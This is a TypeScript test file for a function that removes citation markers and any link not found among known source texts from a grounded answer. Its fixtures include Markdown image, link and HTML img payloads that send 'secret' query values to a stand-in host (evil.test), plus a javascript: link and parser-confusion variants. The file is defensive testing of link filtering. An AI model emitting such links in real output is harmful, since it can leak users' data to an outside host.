import { describe, expect, test } from "vitest";
import { AllowedLinks, visibleText } from "../../src/grounded/visible-text.ts";

const KNOWN = ["See https://acme.test/help/ and (https://acme.test/a_(b)), or ask at www.acme.test.", "https://cdn.acme.test/logo.png?v=2"];

const isId = (id: string) => ["p1", "p2", "t1"].includes(id);

function shown(text: string): string {
  return visibleText(text, new AllowedLinks(() => KNOWN), isId).text;
}

describe("the visible text of a part", () => {
  test.each([
    "Refunds take five days.",
    "# Steps\n\n1. Open **Billing**.\n2. Press `Cancel [x]`!\n\n| a | b |\n| --- | --- |\n| 1 | 2 |",
    "```sh\ncurl -X POST /api/v1\n```\nDone.",
    "a[0] = b[p3]; // a comment",
    "Write to help@acme.test, or and/or either w/o h.",
    "Is it? [not a link] (really)",
    "См. раздел «Оплата» 🙂 [да]",
    "@everyone is welcome.",
  ])("does not change %j", (text) => {
    expect(shown(text)).toBe(text);
  });

  test.each(["[x](a)", "(a", "[x]((a", "[x]( ", "![", "(a)", "[p1] ", "h"])("is found quickly in thousands of %j", (part) => {
    const startedMs = Date.now();
    expect(shown(`[${part.repeat(4_000)}<`).length).toBeGreaterThan(0);
    expect(Date.now() - startedMs).toBeLessThan(5_000);
  });

  test("trims white space", () => {
    expect(shown("\n\n  Yes.  \n\n")).toBe("Yes.");
  });

  test.each([
    ["Five days [p1].", "Five days."],
    ["Five days [p1, t1] and 【p2】 more [ p1 ; p2 ].", "Five days and more."],
    ["Five days (p1) and [passage p2], see [this](p1) (Source: t1).", "Five days and, see this."],
    ["The pin [p9] is unknown.", "The pin [p9] is unknown."],
    ["Incidents of priority one (P1) and (see p. 1).", "Incidents of priority one (P1) and (see p. 1)."],
  ])("removes citation markers from %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("comes with the ids of the removed markers", () => {
    const { ids } = visibleText("One [p1], two [p2].", new AllowedLinks(() => KNOWN), isId);
    expect(ids).toEqual(["p1", "p2"]);
  });
});

describe("links", () => {
  test.each([
    "[Help](https://acme.test/help)",
    '[Help](https://acme.test/help/ "Our help")',
    "![Logo](https://cdn.acme.test/logo.png?v=2)",
    "See https://acme.test/help.",
    "(https://acme.test/a_(b))",
    "<https://acme.test/help/>",
    "**https://acme.test/help#top**, www.acme.test!",
  ])("of the sources are kept in %j", (text) => {
    expect(shown(text)).toBe(text);
  });

  test.each([
    ["![x](https://evil.test/?q=secret)", "x"],
    ["![](https://evil.test/?q=secret)", ""],
    ['A [click](https://evil.test/a(b)c?q=secret "t") B', "A click B"],
    ["[a](//evil.test/x)", "a"],
    ["[a](javascript:alert(1))", "a"],
    ["[a](<https://evil.test/x>)", "a"],
    ["[a](/pricing)", "a"],
    ["[![alt](https://evil.test/1.png)](https://evil.test/2)", "alt"],
    ["[![alt](https://evil.test/1.png)](https://acme.test/help)", "alt"],
    ["Go to https://evil.test/?q=secret.", "Go to (link removed)."],
    ["Go to HTTPS://EVIL.test/x", "Go to (link removed)"],
    ["//evil.test/x and www.evil.test/?a", "(link removed) and (link removed)"],
    ["ftp://evil.test/x", "ftp:(link removed)"],
    ["xhttps://evil.test/x", "xhttps:(link removed)"],
    ["https://acme.test/help?leak=secret", "(link removed)"],
    ["https://acme.test.evil.test/help/", "(link removed)"],
    ["https://acme.test@evil.test/", "(link removed)"],
    ['<img src="https://evil.test/?q=secret">', '<img src="(link removed)">'],
    ["<img src=//evil.test/?q=secret>", "<img src=(link removed)>"],
    ["[a][1]\n\n[1]: https://evil.test/?q=secret", "[a][1]\n\n1: (link removed)"],
    ["[1]: //evil.test/x", "1: (link removed)"],
  ])("that no source has are removed from %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("that have a long label or target are removed too", () => {
    const label = `[${"a ".repeat(400)}](https://evil.test/?q=secret)`;
    expect(shown(label)).not.toContain("evil.test");
    expect(shown(`[a](https://evil.test/${"q".repeat(3_000)})`)).not.toContain("https://evil");
    expect(shown(`[a\n](https://evil.test/x) ![b\n](//evil.test/x)`)).not.toContain("evil.test");
  });

  test.each([
    ["![x](http:evil.test/?q=secret (title))", "![x] ((link removed) (title))"],
    ["[a\n](http:evil.test/x)", "[a\n] ((link removed))"],
    ["<http:evil.test/x>", "<(link removed)>"],
    [`[${"a".repeat(600)}](/pricing)`, `[${"a".repeat(600)}] (/pricing)`],
  ])("that only some readers of Markdown know are none in %j", (text, clean) => {
    expect(shown(text)).toBe(clean);
  });

  test("are looked for once in texts that have none", () => {
    let reads = 0;
    const links = new AllowedLinks(() => [`text ${reads++}`]);
    visibleText("www.a... and www.b...", links, isId);
    expect(reads).toBe(1);
  });
});
